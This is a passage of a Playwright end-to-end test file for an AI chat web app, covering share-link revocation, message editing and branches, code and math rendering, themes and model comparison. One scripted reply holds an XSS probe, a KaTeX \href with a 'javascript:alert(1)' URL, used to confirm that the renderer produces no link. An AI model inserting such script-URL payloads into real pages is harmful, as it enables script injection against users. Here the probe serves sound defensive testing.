        assert visitor.locator("article.message.user").last.inner_text().endswith("Tell me sixteen words")

        # The owner revokes the link: the open page empties, and the link answers 404 from now on.
        wait_finished(page)
        page.get_by_role("button", name="Share").click()
        dialog.locator("#share-list li").get_by_role("button", name="Revoke").click()
        dialog.get_by_text("No links yet.").wait_for()
        assert Share.objects.get(chat__owner=carol).revoked_at is not None
        visitor.get_by_text("This share link does not exist or is no longer available.").wait_for(timeout=5_000)
        assert visitor.locator("article.message").count() == 0
        response = visitor.reload()
        assert response.status == 404
        assert "no longer available" in visitor.locator("main").inner_text()
        assert "word1" not in visitor.content()
        shot(visitor, "25-share-revoked.png")
    finally:
        visitor_context.close()


def test_edit_a_question_switch_versions_and_continue_the_older_branch(page, carol, scripted_model):
    """Issue 18: an edit streams a new reply into a new branch; "< 1 / 2 >" switches back; a follow-up sent there
    continues that branch (its parent is branch 1's reply), and so does Regenerate."""
    scripted_model.options = {"script": ["First", " answer"]}
    scripted_model.save()
    send(page, "Original question")
    wait_finished(page)
    question = page.locator("article.message.user").first
    question.get_by_role("button", name="Edit").click()
    box = question.get_by_label("Edit message")
    assert box.input_value() == "Original question"
    question.get_by_role("button", name="Cancel").click()  # Cancel puts the message back as it was
    assert question.locator("textarea").count() == 0 and question.locator(".body").inner_text() == "Original question"
    question.get_by_role("button", name="Edit").click()
    scripted_model.options = {"script": [f"edited{i} " for i in range(10)], "delay": 0.1}
    scripted_model.save()
    box.fill("Edited question")
    assert not question.locator(".body").is_visible()  # the textarea stands in for the message
    shot(page, "30-editing-a-question.png")
    question.get_by_role("button", name="Save").click()
    page.wait_for_selector("article.message.assistant.generating")
    assert page.locator("article.message.user .body").all_inner_texts() == ["Edited question"]
    wait_finished(page)
    assert last_reply(page).locator(".body").inner_text().strip() == "".join(f"edited{i} " for i in range(10)).strip()
    question = page.locator("article.message.user").first
    position = question.locator(".sibling-position")
    position.filter(has_text="2 / 2").wait_for()
    assert page.locator("article.message").count() == 2  # one branch shown: the old question is not
    shot(page, "31-edited-version-2-of-2.png")

    question.get_by_role("button", name="Previous version").click()
    page.locator("article.message.user .sibling-position", has_text="1 / 2").wait_for()
    assert page.locator("article.message.user .body").all_inner_texts() == ["Original question"]
    assert last_reply(page).locator(".body").inner_text().strip() == "First answer"
    shot(page, "32-switched-to-version-1.png")

    chat = Chat.objects.get(owner=carol)
    first_reply = Message.objects.get(chat=chat, role="assistant", content="First answer")
    scripted_model.options = {"script": ["Follow", "-up answer"]}
    scripted_model.save()
    send(page, "A follow-up on branch one")
    wait_finished(page)
    page.locator("#messages[data-branch-leaf]").wait_for()
    follow_up = Message.objects.get(chat=chat, role="user", content="A follow-up on branch one")
    assert follow_up.parent_id == first_reply.id
    texts = page.locator("article.message .body").all_inner_texts()
    assert [t.strip() for t in texts] == [
        "Original question",
        "First answer",
        "A follow-up on branch one",
        "Follow-up answer",
    ]
    assert page.locator("article.message.user .sibling-position").first.inner_text() == "1 / 2"
    shot(page, "33-follow-up-on-branch-1.png")

    # Regenerate answers the shown branch's question again, as a sibling version of its reply.
    scripted_model.options = {"script": ["Another", " take"]}
    scripted_model.save()
    page.get_by_role("button", name="Regenerate").click()
    page.locator("article.message.assistant .sibling-position", has_text="2 / 2").wait_for()
    again = Message.objects.get(chat=chat, content="Another take")
    assert again.parent_id == follow_up.id
    texts = page.locator("article.message .body").all_inner_texts()
    assert [t.strip() for t in texts] == [
        "Original question",
        "First answer",
        "A follow-up on branch one",
        "Another take",
    ]
    shot(page, "34-regenerated-version-2-of-2.png")


# A reply with a Python code block and math (display, inline, \(...\) and a \href KaTeX must not turn into a
# link), written in small pieces so that the fence and the formulas are half-written for a while.
CODE = 'def add(a, b):\n    """Sum two numbers."""\n    return a + b  # 42\n'
READING_REPLY = [
    "Here is the code:\n\n```py", "thon\n", *CODE.splitlines(keepends=True), "```\n\n",
    "And the integral:\n\n$$\n\\int_0^1 x^2", "\\,dx = \\frac{1}{3}\n$$\n\n",
    "Euler: $e^{i\\pi} + 1 = 0$, ", "a sum \\(a_1 + a_2\\), ", "and \\(\\href{javascript:alert(1)}{click}\\). ",
    "It costs $5 and $10.\n\n", *[f"more{i} " for i in range(30)],
]  # fmt: skip
READ_CSP = (
    "window.__violations = [];"
    "document.addEventListener('securitypolicyviolation', (e) => window.__violations.push(e.violatedDirective))"
)


def test_code_and_math_render_while_streaming_with_copy_buttons_and_a_remembered_dark_theme(
    page, live_stack, scripted_model
):
    """Issue 18, item 6: highlighted code with copy buttons, KaTeX math, message copy, light/dark/system theme."""
    page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=live_stack.base_url)
    page.evaluate(READ_CSP)
    scripted_model.options = {"script": READING_REPLY, "delay": 0.05}
    scripted_model.save()
    send(page, "Show me code and math")
    reply = last_reply(page)
    # While it streams: the code block is highlighted and has its copy button, which copies the code.
    page.wait_for_function(
        "() => { const r = [...document.querySelectorAll('article.message.assistant')].pop();"
        " return !!r && r.classList.contains('generating') && !!r.querySelector('.code-block code .hljs-keyword'); }"
    )
    assert reply.locator(".code-block .code-language").first.inner_text() == "python"
    reply.locator(".code-block").get_by_role("button", name="Copy the python code").click()
    assert "generating" in reply.get_attribute("class")
    page.wait_for_function("navigator.clipboard.readText().then((t) => t.startsWith('def add'))")
    # Still streaming, the formulas are typeset.
    page.wait_for_function(
        "() => { const r = [...document.querySelectorAll('article.message.assistant')].pop();"
        " return !!r && r.classList.contains('generating') && r.querySelectorAll('.katex').length >= 3; }"
    )
    shot(page, "40-code-and-math-streaming.png")
    wait_finished(page)

    def check() -> None:
        body = reply.locator(".body")
        assert body.locator(".hljs-keyword", has_text="def").count() == 1
        assert body.locator(".hljs-string").first.inner_text() == '"""Sum two numbers."""'
        assert body.locator(".hljs-comment").inner_text() == "# 42"
        assert body.locator(".katex-display").count() == 1
        assert body.locator(".katex").count() == 4  # the display, e^..., a_1 + a_2, the \href one, no money
        text = body.inner_text()
        assert "$$" not in text and "\\(" not in text and "$e^" not in text
        assert "It costs $5 and $10." in text  # dollars stay money
        assert body.locator("a").count() == 0  # trust: false, no \href link
        assert body.locator("[style*='javascript'], [href^='javascript']").count() == 0
        assert page.evaluate("window.__violations") == []

    check()
    reply.locator(".code-block").get_by_role("button", name="Copy the python code").click()
    page.wait_for_function("(code) => navigator.clipboard.readText().then((t) => t === code)", arg=CODE)
    # The message's copy button copies the reply's Markdown; the question's copies the question.
    reply.get_by_role("button", name="Copy this message").click()
    page.wait_for_function("(md) => navigator.clipboard.readText().then((t) => t === md)", arg="".join(READING_REPLY))
    assert reply.get_by_role("button", name="Copy this message").inner_text() == "Copied"
    page.locator("article.message.user").last.get_by_role("button", name="Copy this message").click()
    page.wait_for_function("navigator.clipboard.readText().then((t) => t === 'Show me code and math')")
    reply.scroll_into_view_if_needed()
    shot(page, "41-code-and-math-light.png")

    # Dark theme from the toggle, remembered across a reload; "System" follows prefers-color-scheme.
    background = "getComputedStyle(document.documentElement).backgroundColor"
    assert page.evaluate(background) == "rgb(247, 247, 248)"
    page.get_by_label("Theme").select_option("dark")
    assert page.evaluate(background) == "rgb(21, 23, 27)"
    shot(page, "42-code-and-math-dark.png")
    page.reload()
    page.wait_for_selector("body[data-ready=true]")
    page.evaluate(READ_CSP)
    assert page.locator("html").get_attribute("data-theme") == "dark"
    assert page.get_by_label("Theme").input_value() == "dark"
    assert page.evaluate(background) == "rgb(21, 23, 27)"
    reply = last_reply(page)
    reply.locator(".katex").first.wait_for()
    check()  # the saved reply renders the same
    page.get_by_label("Theme").select_option("system")
    page.emulate_media(color_scheme="dark")
    assert page.locator("html").get_attribute("data-theme") is None
    assert page.evaluate(background) == "rgb(21, 23, 27)"
    page.emulate_media(color_scheme="light")
    assert page.evaluate(background) == "rgb(247, 247, 248)"
    page.get_by_label("Theme").select_option("light")
    page.emulate_media(color_scheme="dark")
    assert page.evaluate(background) == "rgb(247, 247, 248)"


def test_a_shared_chat_renders_code_and_math_in_the_systems_dark_theme(
    browser, page, live_stack, carol, scripted_model
):
    """The share viewer uses the same renderer and theme as the chat page (issue 18, item 6)."""
    from chats.sharing import do_create_share

    scripted_model.options = {"script": READING_REPLY}
    scripted_model.save()
    send(page, "Show me code and math")
    wait_finished(page)
    _, token = do_create_share(Chat.objects.get(owner=carol))
    visitor_context = browser.new_context(
        viewport={"width": 1280, "height": 800}, base_url=live_stack.base_url, color_scheme="dark"
    )
    visitor = visitor_context.new_page()
    try:
        visitor.goto(f"/s/{token}")
        visitor.evaluate(READ_CSP)
        reply = visitor.locator("article.message.assistant")
        reply.locator(".katex-display").wait_for()
        assert reply.locator(".code-block .hljs-keyword", has_text="def").count() == 1
        assert reply.locator(".katex").count() == 4 and "$$" not in reply.locator(".body").inner_text()
        background = "getComputedStyle(document.documentElement).backgroundColor"
        assert visitor.evaluate(background) == "rgb(21, 23, 27)"  # the system's dark, nothing chosen
        assert reply.get_by_role("button", name="Copy this message").count() == 1
        shot(visitor, "43-share-code-and-math-dark.png")
        visitor.get_by_label("Theme").select_option("light")
        assert visitor.evaluate(background) == "rgb(247, 247, 248)"
        assert visitor.evaluate("window.__violations") == []
    finally:
        visitor_context.close()


def test_compare_two_models_side_by_side_pick_one_and_continue_from_it(page, carol, scripted_model, smollm2):
    """Issue 18: Compare sends one question to Scripted and SmolLM2; their replies stream into two columns; the
    user continues with SmolLM2's, and the follow-up's parent (in the database) is that reply."""
    smollm2.default_max_tokens = 40
    smollm2.save()
    scripted_model.options = {"script": [f"side{i} " for i in range(12)], "delay": 0.15}
    scripted_model.save()
    page.get_by_role("button", name="Compare").click()
    page.get_by_label("Model 1", exact=True).select_option(label="Scripted")
    page.get_by_label("Model 2", exact=True).select_option(label=smollm2.display_name)
    shot(page, "50-compare-picking-two-models.png")
    page.get_by_label("Message", exact=True).fill("Say something short.")
    page.get_by_label("Message", exact=True).press("Enter")
    columns = page.locator(".compare-columns .compare-column")
    columns.nth(1).wait_for()
    assert columns.count() == 2
    assert columns.locator(".who-said").all_inner_texts() == ["Scripted", smollm2.display_name]
    page.wait_for_function(
        "() => [...document.querySelectorAll('.compare-column .body')].some((b) => b.textContent.trim())"
        " && !document.querySelector('.compare-columns[data-complete]')"
    )
    shot(page, "51-compare-replies-streaming-in-columns.png")
    page.locator(".compare-columns[data-complete=true]").wait_for(timeout=120_000)
    shot(page, "52-compare-replies-done.png")

    chat = Chat.objects.get(owner=carol)
    question = Message.objects.get(chat=chat, role="user", content="Say something short.")
    scripted_reply, smol_reply = Message.objects.filter(chat=chat, role="assistant").order_by("created_at")
    assert scripted_reply.parent_id == smol_reply.parent_id == question.id
    assert (scripted_reply.model_id, smol_reply.model_id) == ("scripted", "smollm2-135m")
    assert scripted_reply.status == smol_reply.status == "completed" and smol_reply.content
    assert columns.nth(0).locator(".body").inner_text().strip() == scripted_reply.content.strip()
    assert columns.nth(1).locator(".body").inner_text().strip()

    columns.nth(1).get_by_role("button", name="Continue with this").click()
    page.locator(f"#messages[data-branch-leaf='{smol_reply.id}']").wait_for()
    assert page.locator(".compare-columns").count() == 0
    assert page.locator("article.message.assistant .sibling-position").inner_text() == "2 / 2"
    shot(page, "53-continued-with-smollm2.png")

    scripted_model.options = {"script": ["Follow", "-up"]}
    scripted_model.save()
    page.get_by_label("Model", exact=True).select_option(label="Scripted")
    page.get_by_label("Message", exact=True).fill("And then?")
    page.get_by_label("Message", exact=True).press("Enter")
    wait_finished(page)
    follow_up = Message.objects.get(chat=chat, role="user", content="And then?")
    assert follow_up.parent_id == smol_reply.id
    texts = [t.strip() for t in page.locator("article.message .body").all_inner_texts()]
    assert texts[0] == "Say something short." and texts[2:] == ["And then?", "Follow-up"]
    shot(page, "54-follow-up-after-the-picked-reply.png")


def test_on_a_phone_compare_columns_stack_and_stop_ends_every_reply(browser, live_stack, carol, scripted_model):
    """Issue 18: on a phone the compare's replies stack (one column under the other); Stop cancels all of them."""
    from pipelines.models import ModelConfig

    scripted_model.options = {"script": [f"slow{i} " for i in range(200)], "delay": 0.1}
    scripted_model.save()
    ModelConfig.objects.create(
        model_id="scripted-b", display_name="Scripted B", provider="scripted", context_window=1000,
        options={"script": [f"other{i} " for i in range(200)], "delay": 0.1},
    )  # fmt: skip
    page = open_page(browser, live_stack.base_url, carol.username, width=390, height=844)
    page.get_by_role("button", name="Compare").click()
    page.get_by_label("Model 1", exact=True).select_option(label="Scripted")
    page.get_by_label("Model 2", exact=True).select_option(label="Scripted B")
    page.get_by_label("Message", exact=True).fill("Two at once on a phone")
    page.get_by_label("Message", exact=True).press("Enter")
    columns = page.locator(".compare-columns .compare-column")
    columns.nth(1).wait_for()
    page.wait_for_function("() => document.querySelector('.compare-column .body').textContent.includes('slow3')")
    first, second = columns.nth(0).bounding_box(), columns.nth(1).bounding_box()
    assert second["y"] >= first["y"] + first["height"] and first["width"] > 300  # stacked, full width
    shot(page, "55-compare-on-a-phone.png")
    page.get_by_role("button", name="Stop").click()
    page.locator(".compare-columns[data-complete=true]").wait_for(timeout=30_000)
    chat = Chat.objects.get(owner=carol)
    replies = Message.objects.filter(chat=chat, role="assistant")
    assert sorted(r.status for r in replies) == ["cancelled", "cancelled"]
    assert columns.locator(".meta", has_text="Stopped").count() == 2
    page.context.close()
